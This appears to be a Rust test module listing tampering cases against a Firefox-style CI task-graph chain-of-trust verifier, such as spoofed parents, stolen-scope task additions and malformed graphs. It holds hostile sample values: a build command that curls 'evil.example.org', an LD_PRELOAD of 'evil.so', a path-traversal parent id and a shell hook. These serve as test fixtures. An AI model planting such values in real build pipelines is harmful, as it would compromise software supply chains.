// SPDX-License-Identifier: MPL-2.0
//! Attacks on membership in a task graph, and on parents (sections B, C and G1).

use catena_core::model::ids::TaskId;
use serde_json::{Value, json};

use super::{Compat, Saboteur, artifacts::upstream, drop_member, saboteur};
use crate::chain::Chain;
use crate::random::Random;
use crate::spec::{Flow, RootRun};

#[rustfmt::skip] // a table: one attack, a few lines
pub(super) const ALL: &[Saboteur] = &[
    saboteur("root-added-to-the-group", "graph-member", &["V54"],
        "Somebody with stolen scopes added a signing task to a group that never planned it.",
        Flow::FirefoxPush, |chain| leave_graph(chain, "root", "decision")),
    saboteur("build-added-to-the-group", "graph-member", &["V54"],
        "Somebody with stolen scopes added a build to a group that never planned it.",
        Flow::FirefoxPush, |chain| leave_graph(chain, "build-0", "decision")),
    saboteur("signing-added-to-the-group", "graph-member", &["V54"],
        "Somebody with stolen scopes added an upstream signing task to the group.",
        Flow::FirefoxMirror, |chain| leave_graph(chain, "signing-0", "decision")),
    saboteur("image-added-to-an-older-group", "graph-member", &["V54", "R-10"],
        "Somebody created a docker-image task in an older group that never planned it.",
        Flow::FirefoxPush, |chain| leave_graph(chain, "image-0", "image-0-decision")),
    saboteur("root-not-in-the-action", "graph-member", &["V54"],
        "A signing task claims a promotion as its parent which never made it.",
        Flow::FirefoxPromotion, |chain| leave_graph(chain, "root", "action")),
    saboteur("build-claims-another-decision", "graph-member", &["V54", "V8"],
        "A build claims another genuine decision task as its parent, which never made it.",
        Flow::FirefoxPush, |chain| {
            let other = chain.task("image-0-decision").id;
            chain.edit_task("build-1", |task| task["extra"]["parent"] = other.as_str().into());
        }),
    saboteur("action-graph-claims-all", "graph-member", &["V54"],
        "A build that the decision task planned was moved under the action, which did not.",
        Flow::FirefoxAction, |chain| {
            let action = chain.task("action").id;
            chain.edit_task("build-1", |task| task["extra"]["parent"] = action.as_str().into());
        }),
    saboteur("root-parent-empty", "parent-id", &["S1"],
        "The root names an empty parent, so that the reference looks it up in no task graph.",
        Flow::FirefoxPush, |chain| orphan(chain, "root", &json!(""))),
    saboteur("root-parent-null", "parent-id", &["S1"],
        "The root names null as its parent, so that the reference looks it up in no task graph.",
        Flow::FirefoxPush, |chain| orphan(chain, "root", &Value::Null)),
    saboteur("build-parent-empty", "parent-id", &["S1"],
        "A build names an empty parent, so that the reference looks it up in no task graph.",
        Flow::FirefoxPush, |chain| orphan(chain, "build-0", &json!(""))),
    saboteur("build-parent-null", "parent-id", &["S1"],
        "A build names null as its parent, so that the reference looks it up in no task graph.",
        Flow::FirefoxPush, |chain| orphan(chain, "build-1", &Value::Null)),
    saboteur("parent-leads-elsewhere", "parent-id", &["S13"],
        "The id of a build's parent is a path that leads out of its directory.",
        Flow::FirefoxPush, |chain| orphan(chain, "build-0", &json!("../../../../../tmp/abc"))),
    saboteur("parent-no-slug", "parent-id", &["S13"],
        "The id of a build's parent has 22 characters but is no task id.",
        Flow::FirefoxPush, |chain| orphan(chain, "build-0", &json!("AAAAAAAAAAAAAAAAAAAAAA"))),
    saboteur("group-no-id", "parent-id", &["S13", "V7"],
        "The task group of a build is no task id.",
        Flow::FirefoxPush, |chain| chain.edit_definition("build-1", |task| task["taskGroupId"] = "..".into())),
    saboteur("foreign-decision-claimed-as-build", "graph-member", &["S5", "V54"],
        "The root claims a made-up decision task as a build, so that the reference never rebuilds it; it vouches for a genuine build.",
        Flow::AdhocPromotion, |chain| {
            made_up_decision(chain, "build-0");
            claim(chain, "foreign", "build");
        }),
    saboteur("decision-claimed-as-build", "graph-member", &["S5", "V54"],
        "The root claims its own decision task as a build as well.",
        Flow::XpiPush, |chain| claim(chain, "decision", "build")),
    saboteur("foreign-decision", "rebuild-mismatch", &["V54", "V69a"],
        "A build names a made-up decision task in another group as its parent.",
        Flow::FirefoxPush, |chain| made_up_decision(chain, "build-1")),
    saboteur("command-changed", "graph-match", &["V55"],
        "Somebody with stolen scopes created a planned build with another command.",
        Flow::FirefoxPush, |chain| chain.edit_definition("build-0", |task| {
            task["payload"]["command"] = json!(["curl", "https://evil.example.org"]);
        })),
    saboteur("environment-changed", "graph-match", &["V55"],
        "Somebody with stolen scopes created a planned build with another variable.",
        Flow::FirefoxPush, |chain| chain.edit_definition("build-1", |task| {
            task["payload"]["env"]["LD_PRELOAD"] = "evil.so".into();
        })),
    saboteur("environment-variable-left-out", "graph-match", &["V55"],
        "Somebody with stolen scopes created a planned build without one of its variables.",
        Flow::FirefoxPush, |chain| chain.edit_definition("build-1", |task| {
            drop_member(&mut task["payload"]["env"], "MOZ_SCM_LEVEL");
        })),
    saboteur("scope-added", "graph-match", &["V55"],
        "Somebody with stolen scopes created the root with one scope more.",
        Flow::FirefoxPush, |chain| chain.edit_definition("root", |task| {
            let scopes = task["scopes"].as_array_mut();
            scopes.into_iter().for_each(|scopes| scopes.push("project:releng:signing:format:mar".into()));
        })),
    saboteur("route-added", "graph-match", &["V55"],
        "Somebody with stolen scopes created a planned build that is indexed as another.",
        Flow::FirefoxPush, |chain| chain.edit_definition("build-0", |task| {
            task["routes"] = json!(["index.gecko.v2.mozilla-release.latest.firefox.linux64"]);
        })),
    saboteur("upstream-artifact-exchanged", "graph-match", &["V55"],
        "Somebody with stolen scopes created the root with an upstream artifact of another build.",
        Flow::FirefoxPush, |chain| {
            let other = chain.task("build-1").id;
            chain.edit_definition("root", |task| {
                task["payload"]["upstreamArtifacts"][0]["taskId"] = other.as_str().into();
            });
        }),
    saboteur("dependency-foreign", "graph-match", &["V55"],
        "A planned build depends on a task that the graph does not know.",
        Flow::FirefoxPush, |chain| {
            let foreign = Random::new(5).task_id();
            chain.edit_definition("build-1", |task| task["dependencies"] = json!([foreign.as_str()]));
        }),
    saboteur("key-left-out", "graph-match", &["V55"],
        "A planned build was created without its requirement that all dependencies succeed.",
        Flow::FirefoxPush, |chain| chain.edit_definition("build-0", |task| drop_member(task, "requires"))),
    saboteur("pool-changed", "graph-match", &["V55"],
        "Somebody with stolen scopes created a planned build on another worker pool.",
        Flow::FirefoxPush, |chain| chain.edit_definition("build-1", |task| {
            task["workerType"] = "b-evil".into();
            task["taskQueueId"] = "gecko-3/b-evil".into();
        })),
    saboteur("datestamp-with-sign", "graph-match", &["S44", "V56"],
        "A task graph has a date in the past that the reference reads as one in the future.",
        Flow::FirefoxPush, |chain| datestamp(chain, &json!("-1 year"))).compat(Compat::Trusted),
    saboteur("datestamp-with-fraction", "graph-match", &["V56"],
        "A task graph has a relative date with a fraction.",
        Flow::FirefoxPush, |chain| datestamp(chain, &json!("1.5 hours"))),
    saboteur("datestamp-in-weeks", "graph-match", &["V56"],
        "A task graph has a relative date in a unit that nobody defined.",
        Flow::FirefoxPush, |chain| datestamp(chain, &json!("2 weeks"))),
    saboteur("datestamp-a-number", "graph-match", &["V56"],
        "A task graph has a number as a relative date.",
        Flow::FirefoxPush, |chain| datestamp(chain, &json!(5))),
    saboteur("datestamp-other", "graph-match", &["V56"],
        "A build's artifacts expire at another time than the graph says.",
        Flow::FirefoxPush, |chain| datestamp(chain, &json!("28 days"))),
    saboteur("graph-without-scopes", "graph-runtime-keys", &["S6"],
        "The graph's entry leaves out the scopes, so that whoever creates the task may choose them.",
        Flow::FirefoxPush, |chain| entry(chain, "build-0", |task| drop_member(task, "scopes")))
        .compat(Compat::Trusted),
    saboteur("graph-without-payload", "graph-runtime-keys", &["S6"],
        "The graph's entry leaves out the payload, so that whoever creates the task may choose it.",
        Flow::FirefoxPush, |chain| entry(chain, "build-1", |task| drop_member(task, "payload")))
        .compat(Compat::Trusted),
    saboteur("graph-without-pool", "graph-runtime-keys", &["S6"],
        "The graph's entry names no worker pool, so that whoever creates the task may choose it.",
        Flow::FirefoxPush, |chain| entry(chain, "build-1", |task| {
            drop_member(task, "provisionerId");
            drop_member(task, "workerType");
        })).compat(Compat::Trusted),
    saboteur("graph-with-another-queue", "graph-runtime-keys", &["S6", "V55"],
        "The graph's entry names its pool in taskQueueId only, which the reference ignores, and the task ran elsewhere.",
        Flow::FirefoxPush, |chain| entry(chain, "build-1", |task| {
            drop_member(task, "provisionerId");
            drop_member(task, "workerType");
            task["taskQueueId"] = "gecko-3/other".into();
        })).compat(Compat::Trusted),
    saboteur("group-foreign", "graph-runtime-keys", &["S6", "V85"],
        "The root was created in a group of its own, of which the graph says nothing.",
        Flow::FirefoxPush, |chain| {
            let group = Random::new(6).task_id();
            chain.edit_definition("root", |task| task["taskGroupId"] = group.as_str().into());
        }).compat(Compat::Trusted),
    saboteur("routes-not-in-the-graph", "graph-runtime-keys", &["S6"],
        "A build has routes of which the graph's entry says nothing.",
        Flow::FirefoxPush, |chain| entry(chain, "build-0", |task| drop_member(task, "routes")))
        .compat(Compat::Trusted),
    saboteur("extra-not-in-the-graph", "graph-runtime-keys", &["S6"],
        "A build has members of extra of which the graph's entry says nothing.",
        Flow::FirefoxPush, |chain| entry(chain, "build-1", |task| drop_member(task, "extra")))
        .compat(Compat::Trusted),
    saboteur("retries-not-the-default", "graph-runtime-keys", &["S6", "P16"],
        "A build may be retried 49 times, of which the graph's entry says nothing.",
        Flow::FirefoxPush, |chain| chain.edit_definition("build-1", |task| task["retries"] = 49.into()))
        .compat(Compat::Trusted),
    saboteur("requirement-not-the-default", "graph-runtime-keys", &["S6", "P16"],
        "A build runs even when its dependencies failed, of which the graph's entry says nothing.",
        Flow::FirefoxPush, |chain| {
            entry(chain, "build-1", |task| drop_member(task, "requires"));
            chain.edit_definition("build-1", |task| task["requires"] = "all-resolved".into());
        }).compat(Compat::Trusted),
    saboteur("key-nobody-knows", "graph-runtime-keys", &["S6"],
        "A build has a member that neither the graph nor the queue is known to add.",
        Flow::FirefoxPush, |chain| chain.edit_definition("build-1", |task| task["onCompletion"] = json!(["sh"])))
        .compat(Compat::Trusted),
    saboteur("true-for-one", "exact-types", &["S42", "V93"],
        "A build was created with 1 where the graph has true, which the reference takes for equal.",
        Flow::FirefoxPush, |chain| chain.edit_definition("build-0", |task| {
            task["payload"]["features"]["chainOfTrust"] = 1.into();
        })),
    saboteur("zero-for-false", "exact-types", &["S42", "V93"],
        "A docker image was built with 0 where the graph has false, which the reference takes for equal.",
        Flow::FirefoxPush, |chain| chain.edit_definition("image-0", |task| {
            task["payload"]["features"]["dind"] = 0.into();
        })),
    saboteur("graph-a-list", "task-graph", &["V53"],
        "The decision task's worker signed a task graph that is a list.",
        Flow::FirefoxPush, |chain| seal_graph(chain, b"[]")),
    saboteur("graph-empty", "task-graph", &["V53"],
        "The decision task's worker signed an empty task graph.",
        Flow::FirefoxPush, |chain| seal_graph(chain, b"")),
    saboteur("graph-cut", "task-graph", &["V53", "P21"],
        "The decision task's worker signed the first half of its task graph.",
        Flow::FirefoxPush, |chain| {
            let bytes = chain.bytes(&chain.graph("decision")).to_vec();
            seal_graph(chain, &bytes[..bytes.len() / 2]);
        }),
    saboteur("graph-with-a-task-twice", "json-strict", &["S45"],
        "A task graph lists a task twice, and two readers take different entries.",
        Flow::FirefoxPush, |chain| {
            let id = chain.task("build-0").id;
            insert(chain, &format!("\"{}\": {{}}, ", id.as_str()));
        }),
    saboteur("graph-with-nan", "json-strict", &["S45", "P2"],
        "A task graph has a number that is none.",
        Flow::FirefoxPush, |chain| insert(chain, "\"weight\": NaN, ")),
    saboteur("graph-with-lone-surrogate", "json-strict", &["P2"],
        "A task graph has a key with half of a character.",
        Flow::FirefoxPush, |chain| insert(chain, "\"\\ud83d\": {}, ")),
    saboteur("entry-without-task", "typed-model", &["P2", "V55"],
        "An entry of the task graph has no definition.",
        Flow::FirefoxPush, |chain| {
            let id = chain.task("build-0").id;
            chain.edit_graph("decision", |graph| drop_member(&mut graph[id.as_str()], "task"));
        }),
    saboteur("entry-a-text", "typed-model", &["P2", "V55"],
        "An entry of the task graph is a text.",
        Flow::FirefoxPush, |chain| {
            let id = chain.task("build-0").id;
            chain.edit_graph("decision", |graph| graph[id.as_str()] = "build".into());
        }),
    saboteur("pool-and-queue-disagree", "worker-pool", &["S42", "V10"],
        "A build's taskQueueId names another pool than its provisionerId and workerType, at which all checks look.",
        Flow::FirefoxPush, |chain| chain.edit_definition("build-0", |task| task["taskQueueId"] = "evil/evil".into())),
    saboteur("root-pool-and-queue-disagree", "worker-pool", &["S42", "V10"],
        "The root's taskQueueId names another pool than its provisionerId and workerType.",
        Flow::XpiPush, |chain| chain.edit_definition("root", |task| task["taskQueueId"] = "evil/evil".into()))
        .on(|spec| spec.root_run = RootRun::Completed),
];

/// Takes a task out of its parent's graph.
fn leave_graph(chain: &mut Chain, name: &str, parent: &str) {
    let id = chain.task(name).id;
    chain.edit_graph(parent, |graph| drop_member(graph, id.as_str()));
}

/// Gives a task another parent, and takes it out of the graph, which it no longer needs.
fn orphan(chain: &mut Chain, name: &str, parent: &Value) {
    chain.edit_definition(name, |task| task["extra"]["parent"] = parent.clone());
    let owner = if name == "image-0" {
        "image-0-decision"
    } else {
        "decision"
    };
    leave_graph(chain, name, owner);
}

/// Adds a decision task that no template renders to, in a group of its own, and makes it the parent of a build.
fn made_up_decision(chain: &mut Chain, build: &str) {
    let id = Random::new(77).task_id();
    chain.copy_task("decision", id, "foreign");
    chain.edit_definition("foreign", |task| {
        task["taskGroupId"] = id.as_str().into();
        task["payload"]["command"] = json!(["curl", "https://evil.example.org"]);
    });
    adopt(chain, build, id);
}

/// Has the root take a file of a parent, under a type of its choice.
fn claim(chain: &mut Chain, name: &str, kind: &str) {
    let id = chain.task(name).id;
    let claim = json!({"taskId": id.as_str(), "taskType": kind, "paths": ["public/parameters.yml"], "formats": []});
    upstream(chain, |entries| {
        entries
            .as_array_mut()
            .into_iter()
            .for_each(|entries| entries.push(claim.clone()));
    });
}

/// Moves a build below another parent of the chain, with its graph entry.
fn adopt(chain: &mut Chain, build: &str, parent: TaskId) {
    chain.edit_task(build, |task| {
        task["extra"]["parent"] = parent.as_str().into()
    });
    chain.edit_definition(build, |task| task["taskGroupId"] = parent.as_str().into());
    let graph = chain.json(&chain.graph("decision"));
    chain.edit_graph("foreign", |copy| *copy = graph);
}

/// Changes the definition in a task's graph entry, and nothing else.
fn entry(chain: &mut Chain, name: &str, edit: fn(&mut Value)) {
    chain.edit_graph_entry(name, |entry| edit(&mut entry["task"]));
}

/// Sets when the artifacts of the second build expire, in the graph.
fn datestamp(chain: &mut Chain, offset: &Value) {
    chain.edit_graph_entry("build-1", |entry| {
        entry["task"]["payload"]["artifacts"][0]["expires"]["relative-datestamp"] = offset.clone();
    });
}

/// Signs other bytes as the decision task's graph.
fn seal_graph(chain: &mut Chain, bytes: &[u8]) {
    let request = chain.graph("decision");
    chain.replace_sealed("decision", &request, bytes.to_vec());
}

/// Writes a member before all others of the decision task's graph, as text.
fn insert(chain: &mut Chain, member: &str) {
    let mut bytes = format!("{{{member}").into_bytes();
    bytes.extend_from_slice(&chain.bytes(&chain.graph("decision"))[1..]);
    seal_graph(chain, &bytes);
}
